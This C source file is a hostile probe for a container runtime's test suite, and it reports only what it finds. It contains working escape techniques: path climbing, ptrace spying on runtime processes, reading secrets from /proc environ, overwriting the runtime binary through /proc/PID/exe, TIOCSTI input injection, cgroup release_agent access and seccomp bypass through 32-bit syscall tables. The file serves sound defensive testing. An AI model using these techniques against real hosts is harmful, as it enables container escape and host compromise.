/* What a hostile program inside a container tries, one mode per trick.
 *
 * Built static by support.rs with the machine's own compiler and copied into
 * the image as /probe. Each mode prints what it found, one fact a line, and
 * judges nothing: the tests in Rust do that. C because a test may not hold
 * `unsafe`, and because every trick here is a raw system call.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *outcome(long result)
{
    return result < 0 ? strerrorname_np(errno) : "ok";
}

/* Descriptors of a process, apart from the one the listing itself needs. */
static void list_fds(const char *prefix, const char *who)
{
    char path[64], target[512], entry[600];
    snprintf(path, sizeof path, "/proc/%s/fd", who);
    DIR *dir = opendir(path);
    for (struct dirent *item; dir && (item = readdir(dir));) {
        if (item->d_name[0] == '.')
            continue;
        if (!strcmp(who, "self") && atoi(item->d_name) == dirfd(dir))
            continue;
        snprintf(entry, sizeof entry, "%s/%.20s", path, item->d_name);
        ssize_t length = readlink(entry, target, sizeof target - 1);
        /* Root may list the numbers of a process it may not look into. */
        if (length < 0)
            continue;
        target[length] = 0;
        printf("%sfd %s %s\n", prefix, item->d_name, target);
    }
    if (dir)
        closedir(dir);
}

/* Climbs out of the working directory towards a file only the host has. */
static void climb(const char *wanted)
{
    char here[4096], path[4096] = "";
    printf("cwd %s\n", syscall(SYS_getcwd, here, sizeof here) < 0 ? strerrorname_np(errno) : here);
    for (int depth = 0; depth < 40; depth++) {
        char attempt[8192];
        snprintf(attempt, sizeof attempt, "./%s%s", path, wanted);
        if (open(attempt, O_RDONLY | O_CLOEXEC) >= 0)
            printf("escaped %s\n", attempt);
        strcat(path, "../");
    }
}

/* Calls `meet` again and again for every process that is not this one. */
static void haunt(void (*meet)(int pid))
{
    puts("haunting");
    for (;;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *item; proc && (item = readdir(proc));) {
            int pid = atoi(item->d_name);
            if (pid > 0 && pid != getpid())
                meet(pid);
        }
        if (proc)
            closedir(proc);
    }
}

static void report_exe(int pid)
{
    char path[64], target[512];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length < 0)
        return;
    target[length] = 0;
    printf("%d exe %s\n", pid, target);
}

static void report_secret(int pid, const char *secret)
{
    char path[64], environment[65536];
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t length = fd < 0 ? -1 : read(fd, environment, sizeof environment);
    if (length > 0 && memmem(environment, length, secret, strlen(secret)))
        printf("%d secret %s\n", pid, secret);
    if (fd >= 0)
        close(fd);
}

/* Looks into a newcomer the way a debugger would. Every look needs the same
 * permission as reading `exe`, so a newcomer that is still the runtime shows
 * as an `exe` that is not in the image. */
static void spy(int pid)
{
    char prefix[32], who[32];
    snprintf(prefix, sizeof prefix, "%d ", pid);
    snprintf(who, sizeof who, "%d", pid);
    report_exe(pid);
    list_fds(prefix, who);
    report_secret(pid, "RCON_TEST_SECRET");
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0)
        return;
    printf("%d traced\n", pid);
    report_exe(pid);
    /* Only a stopped process can be let go of, and one that is not let go of
     * would never be reported as ended to the runtime that waits for it. */
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* Keeps what each /proc/PID/exe names, one descriptor for each program... */
static int keep_exe(int pid, int *held, int count)
{
    char path[64];
    struct stat new, old;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return count;
    fstat(fd, &new);
    for (int i = 0; i < count; i++)
        if (fstat(held[i], &old) == 0 && old.st_ino == new.st_ino && old.st_dev == new.st_dev) {
            close(fd);
            return count;
        }
    held[count] = fd;
    return count + 1;
}

/* ...and writes to it as soon as the kernel lets go of the program, which is
 * when the last process that runs it has ended. */
static void overwrite(int pid)
{
    static int held[512], count, done[512];
    char path[64];
    if (count < 512)
        count = keep_exe(pid, held, count);
    for (int i = 0; i < count; i++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        int fd = done[i] ? -1 : open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0)
            continue;
        done[i] = 1;
        printf("overwrote %s\n", outcome(write(fd, "OVERWRITTEN", 11)));
        close(fd);
    }
}

static void push_input(const char *name, int fd, const char *text)
{
    long result = fd < 0 ? -1 : 0;
    for (const char *at = text; result == 0 && *at; at++)
        result = ioctl(fd, TIOCSTI, at);
    printf("%s %s\n", name, outcome(result));
}

static void tiocsti(const char *text)
{
    push_input("stdin", 0, text);
    push_input("stdout", 1, text);
    push_input("stderr", 2, text);
    push_input("/dev/tty", open("/dev/tty", O_RDWR), text);
    /* Stealing the terminal would make the push legal. */
    printf("steal %s\n", outcome(ioctl(0, TIOCSCTTY, 1)));
    push_input("stolen", 0, text);
}

static void describe(const char *path)
{
    struct stat st;
    struct statfs fs;
    char byte[1];
    if (stat(path, &st) || statfs(path, &fs)) {
        printf("%s %s\n", path, strerrorname_np(errno));
        return;
    }
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    long got = fd < 0 ? -1 : read(fd, byte, 1);
    printf("%s %s %u:%u fs=%lx read=%ld\n", path,
           S_ISCHR(st.st_mode) ? "char" : S_ISDIR(st.st_mode) ? "dir" : S_ISREG(st.st_mode) ? "file" : "other",
           major(st.st_rdev), minor(st.st_rdev), (unsigned long)fs.f_type, got);
    close(fd);
}

/* Opens for writing and writes nothing; in a directory it makes a name. */
static void try_write(const char *path)
{
    struct stat st;
    char inside[4096];
    if (stat(path, &st) == 0 && S_ISDIR(st.st_mode)) {
        snprintf(inside, sizeof inside, "%s/rcon-test", path);
        printf("%s %s\n", path, outcome(mkdir(inside, 0755)));
        rmdir(inside);
        return;
    }
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    printf("%s %s\n", path, outcome(fd));
    if (fd >= 0)
        close(fd);
}

static void report_unshare(const char *name, int flags)
{
    if (fork() == 0) {
        printf("unshare-%s %s\n", name, outcome(unshare(flags)));
        fflush(stdout);
        _exit(0);
    }
    wait(NULL);
}

static void report_clone(const char *name, int flags)
{
    long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    printf("clone-%s %s\n", name, outcome(pid));
    wait(NULL);
}

/* Every way to a cgroup mount of one's own, where release_agent is writable. */
static void own_cgroup(void)
{
    mkdir("/tmp/cg", 0755);
    report_unshare("user", CLONE_NEWUSER);
    report_unshare("mount", CLONE_NEWNS);
    report_unshare("cgroup", CLONE_NEWCGROUP);
    report_unshare("all", CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
    report_clone("user", CLONE_NEWUSER);
    report_clone("mount", CLONE_NEWNS);
    printf("mount-v1 %s\n", outcome(mount("cgroup", "/tmp/cg", "cgroup", 0, "memory")));
    printf("mount-v2 %s\n", outcome(mount("cgroup2", "/tmp/cg", "cgroup2", 0, NULL)));
}

/* Takes a user and mount namespace, where umount is allowed, and tries to
 * look under what the runtime put over `path`. */
static void unmask(const char *path)
{
    printf("unshare %s\n", outcome(unshare(CLONE_NEWUSER | CLONE_NEWNS)));
    printf("umount %s\n", outcome(umount2(path, MNT_DETACH)));
    printf("remount %s\n", outcome(mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL)));
    mkdir("/tmp/newproc", 0755);
    if (unshare(CLONE_NEWPID) == 0 && fork() == 0) {
        printf("newproc %s\n", outcome(mount("proc", "/tmp/newproc", "proc", 0, NULL)));
        fflush(stdout);
        _exit(0);
    }
    wait(NULL);
}

static void report_fatal(const char *name, long (*attempt)(void))
{
    int status;
    fflush(stdout);
    if (fork() == 0) {
        printf("%s %s\n", name, outcome(attempt()));
        fflush(stdout);
        _exit(0);
    }
    wait(&status);
    if (WIFSIGNALED(status))
        printf("%s signal %d\n", name, WTERMSIG(status));
}

#ifdef __x86_64__
/* The system call table of 32-bit programs, which a 64-bit one can reach. */
static long int80(long number, long first, long second, long third)
{
    long result;
    __asm__ volatile("int $0x80" : "=a"(result)
                     : "a"(number), "b"(first), "c"(second), "d"(third) : "memory");
    if (result < 0 && result > -4096) {
        errno = (int)-result;
        return -1;
    }
    return result;
}

static long socket_32(void) { return int80(359, AF_VSOCK, SOCK_STREAM, 0); }
static long socket_x32(void) { return syscall(0x40000000 + SYS_socket, AF_VSOCK, SOCK_STREAM, 0); }

static long socketcall_32(void)
{
    /* The argument block must lie where a 32-bit pointer reaches. */
    unsigned *block = (unsigned *)(long)syscall(SYS_mmap, 0, 4096, 3, 0x62, -1, 0);
    block[0] = AF_VSOCK, block[1] = SOCK_STREAM, block[2] = 0;
    return int80(102, 1, (long)block, 0);
}
#endif

static long socket_vsock(void) { return socket(AF_VSOCK, SOCK_STREAM, 0); }
static long socket_alg(void) { return socket(AF_ALG, SOCK_SEQPACKET, 0); }
static long socket_unix(void) { return socket(AF_UNIX, SOCK_STREAM, 0); }

static void sockets(void)
{
    report_fatal("unix", socket_unix);
    report_fatal("vsock", socket_vsock);
    report_fatal("alg", socket_alg);
#ifdef __x86_64__
    report_fatal("vsock-int80", socket_32);
    report_fatal("vsock-socketcall", socketcall_32);
    report_fatal("vsock-x32", socket_x32);
#endif
}

/* The limit as the kernel knows it, whatever /proc shows. */
static void msgmax(void)
{
    struct msginfo info;
    printf("msgmax %d\n", msgctl(0, IPC_INFO, (struct msqid_ds *)&info) < 0 ? -1 : info.msgmax);
}

static void for_each(int count, char **paths, void (*look)(const char *))
{
    for (int i = 0; i < count; i++)
        look(paths[i]);
}

int main(int argc, char **argv)
{
    const char *mode = argc > 1 ? argv[1] : "", *first = argc > 2 ? argv[2] : "";
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(mode, "fds"))
        list_fds("", "self");
    else if (!strcmp(mode, "climb"))
        climb(first);
    else if (!strcmp(mode, "spy"))
        haunt(spy);
    else if (!strcmp(mode, "overwrite"))
        haunt(overwrite);
    else if (!strcmp(mode, "tiocsti"))
        tiocsti(first);
    else if (!strcmp(mode, "describe"))
        for_each(argc - 2, argv + 2, describe);
    else if (!strcmp(mode, "try-write"))
        for_each(argc - 2, argv + 2, try_write);
    else if (!strcmp(mode, "own-cgroup"))
        own_cgroup();
    else if (!strcmp(mode, "unmask"))
        unmask(first);
    else if (!strcmp(mode, "sockets"))
        sockets();
    else if (!strcmp(mode, "msgmax"))
        msgmax();
    else if (!strcmp(mode, "idle"))
        usleep(1000 * atoi(first));
    else if (!strcmp(mode, "hello"))
        puts("hello");
    else
        return 64;
    return 0;
}
